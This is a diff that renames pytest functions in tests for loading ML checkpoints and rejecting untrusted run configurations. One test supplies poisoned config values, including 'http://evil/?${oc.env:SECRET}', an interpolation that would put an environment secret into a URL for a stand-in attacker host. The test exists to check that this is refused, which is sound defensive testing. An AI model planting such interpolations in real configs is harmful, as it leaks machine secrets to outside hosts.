@@ -82,7 +82,7 @@ def test_a_harmless_but_unknown_key_is_refused_too(run):
         poison(run, "task.model.colour", "red").model()
 
 
-def test_the_last_checkpoint_stands_in_where_no_best_was_written(run):
+def test_the_last_checkpoint_is_used_if_there_is_no_best(run):
     run.best.rename(run.last)
     digests = run.last.with_name("sha256.json")
     digests.write_text(digests.read_text().replace("best.ckpt", "last.ckpt"))
@@ -91,7 +91,7 @@ def test_the_last_checkpoint_stands_in_where_no_best_was_written(run):
 
 @pytest.mark.parametrize("checkpoint", ["best", "last"])
 @pytest.mark.parametrize("is_gone", [True, False])
-def test_the_checkpoint_before_stands_in_for_a_last_one_that_is_damaged_or_gone(
+def test_the_previous_checkpoint_is_used_if_the_last_is_damaged_or_missing(
     run, checkpoint, is_gone
 ):
     state = load_checkpoint(run.best)["state_dict"]
@@ -127,7 +127,7 @@ def test_nor_does_any_part_of_a_strangers_run(run, key):
 
 @pytest.mark.parametrize("value", ["${oc.env:SECRET}", "http://evil/?${oc.env:SECRET}"])
 @pytest.mark.parametrize("wrap", [str, lambda value: [value]])
-def test_a_strangers_run_learns_nothing_of_this_machine(run, monkeypatch, value, wrap):
+def test_an_untrusted_run_reads_nothing_of_this_machine(run, monkeypatch, value, wrap):
     monkeypatch.setenv("SECRET", "sk-123")
     weights = poison(run, "data.path", {"_target_": "a.b", "url": wrap(value)})
     with pytest.raises(ConfigError, match="would be looked up on this machine"):
